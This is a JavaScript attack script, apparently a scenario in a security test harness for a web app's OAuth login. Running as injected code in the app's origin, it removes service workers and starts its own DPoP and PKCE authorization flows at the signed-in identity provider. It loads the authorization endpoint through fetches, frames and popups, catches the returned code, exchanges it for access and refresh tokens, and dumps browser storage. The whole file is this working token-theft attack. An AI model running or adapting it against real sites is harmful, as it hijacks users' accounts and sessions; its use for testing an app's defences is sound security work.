// Takes the worker away and runs an authorization flow of its own, at a provider where somebody is signed in.
;(() => {
  const base64url = (bytes) =>
    btoa(String.fromCharCode(...new Uint8Array(bytes)))
      .replaceAll('+', '-')
      .replaceAll('/', '_')
      .replaceAll('=', '')
  const utf8 = (text) => new TextEncoder().encode(text)
  const random = () => base64url(crypto.getRandomValues(new Uint8Array(32)))

  const makeProver = async () => {
    const pair = await crypto.subtle.generateKey({ name: 'ECDSA', namedCurve: 'P-256' }, false, ['sign', 'verify'])
    const { crv, kty, x, y } = await crypto.subtle.exportKey('jwk', pair.publicKey)
    return async (htm, htu, nonce) => {
      const head = { typ: 'dpop+jwt', alg: 'ES256', jwk: { crv, kty, x, y } }
      const claims = { htm, htu, iat: Math.floor(Date.now() / 1000), jti: random(), ...(nonce ? { nonce } : {}) }
      const text = [head, claims].map((part) => base64url(utf8(JSON.stringify(part)))).join('.')
      const signature = await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, pair.privateKey, utf8(text))
      return `${text}.${base64url(signature)}`
    }
  }

  /** A form to the provider, with a proof; once more where it wants a nonce. */
  const post = async (prove, url, fields, nonce) => {
    const headers = { DPoP: await prove('POST', url, nonce) }
    const response = await fetch(url, { method: 'POST', headers, body: new URLSearchParams(fields) })
    const asked = response.headers.get('dpop-nonce')
    if (response.status >= 400 && asked !== null && nonce === undefined) return post(prove, url, fields, asked)
    return response.json()
  }

  const violations = []
  document.addEventListener('securitypolicyviolation', ({ blockedURI, documentURI, referrer, sample, sourceFile }) =>
    violations.push({ blockedURI, documentURI, referrer, sample, sourceFile }),
  )
  const reports = []
  if ('ReportingObserver' in globalThis) {
    new ReportingObserver((all) => reports.push(...all.map((one) => one.toJSON?.() ?? one.body)), {
      buffered: true,
    }).observe()
  }

  const fetches = async (address) => {
    const seen = []
    for (const mode of ['cors', 'no-cors']) {
      for (const redirect of ['follow', 'manual']) {
        seen.push(
          await lib.outcome(async () => {
            const init = { mode, redirect, credentials: 'include', signal: AbortSignal.timeout(3000) }
            const response = await fetch(address, init)
            return [response.type, response.url, response.headers, await response.text()]
          }),
        )
      }
    }
    return seen
  }

  const elements = async (address) => {
    const seen = {}
    const add = async (tag, attributes) => {
      const element = document.createElement(tag)
      Object.assign(element, attributes)
      const settled = lib.once(element, 'load', 'error')
      document.body.append(element)
      await lib.within(settled, 1500)
      seen[tag] = await lib.outcome(() => [
        element.contentWindow?.location.href,
        element.contentDocument?.documentElement.outerHTML,
      ])
    }
    await Promise.all([
      lib.outcome(() => add('iframe', { src: address })),
      lib.outcome(() => add('fencedframe', { src: address })),
      lib.outcome(() => add('object', { data: lib.trust.url(address) })),
      lib.outcome(() => add('embed', { src: lib.trust.url(address) })),
      lib.outcome(() => add('script', { src: lib.trust.url(address) })),
      lib.outcome(() => add('img', { src: address })),
      lib.outcome(() => add('link', { rel: 'prefetch', href: address })),
    ])
    return seen
  }

  /** All that the handle of a window tells until it is cut off. */
  const windows = async (address, name) => {
    const seen = []
    const handle = window.open(address, name)
    if (handle === null) return ['no window']
    const until = performance.now() + 4000
    while (performance.now() < until && !handle.closed) {
      const now = await lib.outcome(() => [
        handle.location.href,
        handle.document.documentElement.outerHTML,
        handle.name,
      ])
      if (JSON.stringify(now) !== JSON.stringify(seen.at(-1))) seen.push(now)
      await new Promise((resolve) => setTimeout(resolve, 10))
    }
    return [...seen, handle.closed ? 'cut off' : 'still open']
  }

  attack(async ({ idUrl, clientId, keepWorker, patience }) => {
    const registrations = await navigator.serviceWorker.getRegistrations()
    if (!keepWorker) for (const registration of registrations) await registration.unregister()
    localStorage.removeItem('landed')
    const server = await (await fetch(`${idUrl}/.well-known/openid-configuration`)).json()
    const prove = await makeProver()
    const verifier = random()
    const redirect_uri = `${location.origin}/auth/callback`
    const common = {
      client_id: clientId,
      redirect_uri,
      response_type: 'code',
      scope: 'openid profile email offline_access',
      code_challenge: base64url(await crypto.subtle.digest('SHA-256', utf8(verifier))),
      code_challenge_method: 'S256',
    }
    const push = (more) => post(prove, server.pushed_authorization_request_endpoint, { ...common, ...more })
    const refused = {}
    for (const response_mode of ['query', 'fragment', 'web_message', 'jwt', 'query.jwt', 'form_post.jwt']) {
      refused[response_mode] = await lib.outcome(() => push({ response_mode, state: random(), prompt: 'none' }))
    }
    for (const response_type of ['token', 'id_token', 'code token', 'code id_token', 'none']) {
      refused[response_type] = await lib.outcome(() =>
        push({ response_mode: 'form_post', response_type, state: random(), nonce: random() }),
      )
    }
    const seen = {}
    const flow = async (label, how, more) => {
      const pushed = await push({ response_mode: 'form_post', state: random(), ...more })
      const address = `${server.authorization_endpoint}?${new URLSearchParams({ client_id: clientId, request_uri: pushed.request_uri })}`
      seen[label] = [pushed.request_uri === undefined ? pushed : 'pushed', await how(address)]
    }
    const plain = `${server.authorization_endpoint}?${new URLSearchParams({ ...common, response_mode: 'query' })}`
    seen.plain = await fetches(plain)
    await flow('fetch', fetches, { prompt: 'none' })
    await flow('elements', elements, { prompt: 'none' })
    await flow('window', (address) => windows(address, 'own'), { prompt: 'none' })
    await flow('again', (address) => windows(address, 'own'), {})

    // The windows are cut off at once, and go on alone.
    const until = performance.now() + patience
    while (performance.now() < until && localStorage.getItem('landed') === null) {
      await new Promise((resolve) => setTimeout(resolve, 20))
    }
    const landed = localStorage.getItem('landed')
    const code = landed === null ? null : new URL(JSON.parse(landed).href).searchParams.get('code')
    const fields = {
      grant_type: 'authorization_code',
      client_id: clientId,
      redirect_uri,
      code,
      code_verifier: verifier,
    }
    return {
      refused,
      seen,
      violations,
      reports,
      landed,
      tokens: code === null ? null : await post(prove, server.token_endpoint, fields),
      entries: performance.getEntries().map((entry) => entry.toJSON()),
      history: [location.href, document.referrer, globalThis.navigation?.entries().map(({ url }) => url)],
      storage: await dumpStorage(),
    }
  })
})()
